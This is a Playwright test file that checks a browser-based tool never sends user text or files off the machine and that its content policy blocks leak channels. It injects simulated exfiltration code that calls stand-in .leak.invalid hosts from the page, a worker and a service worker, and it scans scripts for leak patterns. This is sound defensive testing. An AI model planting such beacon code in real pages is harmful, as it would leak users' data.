// Nothing leaves: what the whole browser asks for, watched from below it, while everything on the page is used; and
// what the policy would stop if something tried.
import { readFileSync, readdirSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { chromium } from "@playwright/test";
import { expect, test } from "./fixtures.js";
import { NOT_STOPPED, STOPPED } from "./leaks.js";
import { parts, vector } from "./on_page.js";
import { watchNetwork } from "./proxy.js";

test.use({ excused: ["requests", "console", "policy", "storage", "address"] });

/** A word that is nowhere else. */
const WORD = "quokkaberry";
const TEXT = `${WORD} https://${WORD}.invalid/?q=${WORD} <img src=//${WORD}.invalid> @import url(//${WORD}.invalid)`;
const REQUEST = JSON.stringify({ model: "gpt-4o", messages: [{ role: "user", content: [{ type: "text", text: TEXT }, { type: "image_url", image_url: { url: `https://${WORD}.invalid/a.png` } }] }] });
const BILL = JSON.stringify({ id: WORD, model: "gpt-4o", usage: { prompt_tokens: 1000, completion_tokens: 10, total_tokens: 1010 } });

/** What Chromium asks its maker on its own, whatever page it shows. */
const BROWSERS_OWN = /^(?:(?:accounts\.google\.com|android\.clients\.google\.com|content-autofill\.googleapis\.com|update\.googleapis\.com|[\w.-]+\.gvt1\.com):443$|http:\/\/update\.googleapis\.com\/service\/update2\/json\?)/;

/**
 * A browser of its own, every request of which goes through a proxy, also those to this machine.
 * @param {import("./server.js").Site} site
 * @param {(given: { page: import("@playwright/test").Page, context: import("@playwright/test").BrowserContext, seen: import("./proxy.js").Seen[] }) => Promise<void>} use
 */
async function behindProxy(site, use) {
  const proxy = await watchNetwork(site.origin);
  const browser = await chromium.launch({
    executablePath: /** @type {string} */ (process.env["TOKENMETER_CHROMIUM"]),
    args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"],
    proxy: { server: proxy.server, bypass: "<-loopback>" },
  });
  try {
    const context = await browser.newContext({ acceptDownloads: true, serviceWorkers: "allow" });
    const page = await context.newPage();
    await use({ page, context, seen: proxy.seen });
  } finally {
    await browser.close();
    await proxy.close();
  }
}

/**
 * Opens every drawer, fills every field and presses every button, those too that come with the next feature.
 * @param {import("@playwright/test").Page} page
 */
async function useEverything(page) {
  for (const closed of await page.locator("details:not([open]) > summary").all()) {
    if (await closed.isVisible()) await closed.click();
  }
  await page.waitForLoadState("networkidle");
  for (const field of await page.locator("main textarea:visible:not(#prompt), main input[type=text]:visible, main input[type=search]:visible, main input[type=number]:visible").all()) {
    if (!(await field.isEditable())) continue;
    const id = await field.getAttribute("id");
    const isNumber = (await field.getAttribute("type")) === "number";
    if (id !== "model") await field.fill(id === "bill-response" ? BILL : isNumber ? "7" : WORD);
  }
  for (const select of await page.locator("main select:visible").all()) {
    const last = await select.locator("option").last().getAttribute("value");
    if (last !== null) await select.selectOption(last);
  }
  for (const button of await page.locator("button:visible").all()) {
    const id = await button.getAttribute("id").catch(() => null);
    if (id === "clear" || !(await button.isVisible()) || !(await button.isEnabled())) continue;
    await button.click({ timeout: 3000 }).catch(() => {});
  }
  const withText = page.locator("#share-text");
  if (await withText.isVisible()) await withText.check();
}

test("with everything used, offline too, the browser asks for the site's own files and nothing else", async ({ site }) => {
  test.setTimeout(150_000);
  await behindProxy(site, async ({ page, context, seen }) => {
    await page.goto(site.url);
    const on = parts(page);
    await on.prompt.fill(TEXT);
    await expect(on.tokens).toHaveAttribute("data-value", /\d/);
    // What keeps the page asks for its files through the same proxy.
    await expect(page.locator("#kept")).toHaveText(/works without a network/);
    await useEverything(page);
    await on.prompt.fill(REQUEST);
    await expect(page.locator("#request")).toBeVisible();
    for (const [id, name, content] of /** @type {const} */ ([["file", "a.txt", TEXT.repeat(5000)], ["lines-file", "b.jsonl", `{"messages":[{"role":"user","content":"${WORD}"}]}\n`]])) {
      const chooser = page.locator(`#${id}`);
      if (await chooser.count()) await chooser.setInputFiles({ name, mimeType: "text/plain", buffer: Buffer.from(content) });
    }
    await page.waitForTimeout(500);
    await context.setOffline(true);
    await on.prompt.fill(vector("english").text).catch(() => {});
    await page.waitForTimeout(300);
    await context.setOffline(false);
    await page.goto(`${site.url}embed/`);
    await page.waitForLoadState("networkidle");

    const files = new Set(readdirSync(fileURLToPath(new URL("../../target/site/", import.meta.url)), { recursive: true }).map(String));
    const names = (/** @type {string} */ url) => url.slice(site.url.length);
    expect(seen.length).toBeGreaterThan(50);
    const pages = seen.filter(({ url }) => !BROWSERS_OWN.test(url));
    expect(pages.filter(({ url }) => !url.startsWith(`${site.origin}/`))).toEqual([]);
    const asked = pages.filter(({ url }) => url !== `${site.origin}/violations`);
    // Addresses of files as they are: without a question behind, which could carry something.
    expect(asked.filter(({ url }) => !files.has(names(url).replace(/^$|\/$/, "$&index.html").replace(/^\//, ""))).map(({ url }) => url)).toEqual([]);
    expect(asked.filter(({ method }) => method !== "GET")).toEqual([]);
    expect(seen.filter((request) => decodeURIComponent(request.url + request.all).includes(WORD))).toEqual([]);
    expect(site.violations).toEqual([]);
    await page.goto(site.url);
    const kept = await page.evaluate(async () => [
      document.title, location.href, JSON.stringify(history.state),
      JSON.stringify(localStorage), JSON.stringify(sessionStorage), document.cookie,
      ...(await Promise.all((await caches.keys()).map(async (name) => (await (await caches.open(name)).keys()).map(({ url }) => url)))).flat(),
    ]);
    expect(kept.filter((value) => value.includes(WORD))).toEqual([]);
  });
});

/** @param {string} name */
const host = (name) => `${name}.leak.invalid`;

/**
 * The ways that got through.
 * @param {import("./proxy.js").Seen[]} seen
 */
const leaked = (seen) => [...new Set(seen.flatMap(({ url }) => /([\w-]+)\.leak\.invalid/.exec(url)?.[1] ?? []))].sort();

/**
 * Tries each way out, as code that got into the page would.
 * @param {import("@playwright/test").Page} page
 */
async function tryAll(page) {
  for (const { name, run } of STOPPED) {
    // Some are refused by an exception already.
    await page.evaluate(`{ const to = "http://${host(name)}/"; try { ${run} } catch {} 0 }`);
  }
}

test("without a policy each way out is seen from below, workers included", async ({ site }) => {
  site.inject(/index\.html$/, { body: "<!doctype html><title>No policy</title>" });
  site.inject(/sw\.js$/, { body: "fetch('http://service-worker.leak.invalid/', { mode: 'no-cors' }).catch(() => {})" });
  site.inject(/in_worker\.js$/, { body: "fetch('http://in-worker.leak.invalid/', { mode: 'no-cors' }).catch(() => {})" });
  await behindProxy(site, async ({ page, seen }) => {
    await page.goto(site.url);
    await page.evaluate("new Worker('in_worker.js'); navigator.serviceWorker.register('sw.js').catch(() => {}); 0");
    // What the browser does not even try without a policy, or only in a window of its own.
    const untried = ["manifest", "worker", "track", "base", "icon"];
    const ways = STOPPED.filter(({ name }) => !untried.includes(name) && name !== "form");
    for (const { name, run } of ways) {
      await page.evaluate(`{ const to = "http://${host(name)}/"; ${run}; 0 }`);
    }
    const expected = [...ways.map(({ name }) => name), "in-worker", "service-worker"].sort();
    await expect.poll(() => leaked(seen)).toEqual(expected);
  });
});

for (const byHeader of [true, false]) {
  test(`the policy stops every way out that a policy can stop, ${byHeader ? "as the host sends it" : "as the page alone has it"}`, async ({ site }) => {
    if (!byHeader) site.inject(/index\.html$/, { body: readFileSync(fileURLToPath(new URL("../../target/site/index.html", import.meta.url)), "utf8") });
    await behindProxy(site, async ({ page, seen }) => {
      await page.goto(site.url);
      await page.waitForLoadState("networkidle");
      await tryAll(page);
      await page.waitForTimeout(1000);
      expect(leaked(seen)).toEqual([]);
      // Only a host's header can name who is told.
      if (byHeader) expect(site.violations.length).toBeGreaterThan(15);
    });
  });
}

for (const { name, run } of NOT_STOPPED) {
  if (!run) continue;
  test(`no policy stops ${name}, so that it is written here that none does`, async ({ site }) => {
    await behindProxy(site, async ({ page, seen }) => {
      await page.goto(site.url);
      await page.waitForLoadState("networkidle");
      await page.evaluate(`{ const to = "http://${host(name)}/"; ${run}; 0 }`).catch(() => {});
      await expect.poll(() => leaked(seen)).toEqual([name]);
    });
  });
}

test("our code has none of the ways that no policy stops", () => {
  const root = fileURLToPath(new URL("../../target/site/", import.meta.url));
  const scripts = readdirSync(root, { recursive: true }).map(String).filter((name) => name.endsWith(".js"));
  expect(scripts.length).toBeGreaterThan(80);
  const found = scripts.flatMap((script) => {
    const source = readFileSync(root + script, "utf8");
    const open = NOT_STOPPED.filter(({ words, except = [] }) => words.test(source) && !except.includes(script));
    return open.map(({ name }) => `${script}: ${name}`);
  });
  expect(found).toEqual([]);
  for (const name of ["index.html", "embed/index.html"]) {
    const html = readFileSync(root + name, "utf8");
    expect(html).not.toMatch(/http-equiv="refresh"|rel="(?:preconnect|dns-prefetch|prefetch)"|<form|<base|<iframe| ping=/i);
    expect(html).toContain('<meta name="referrer" content="no-referrer">');
  }
});
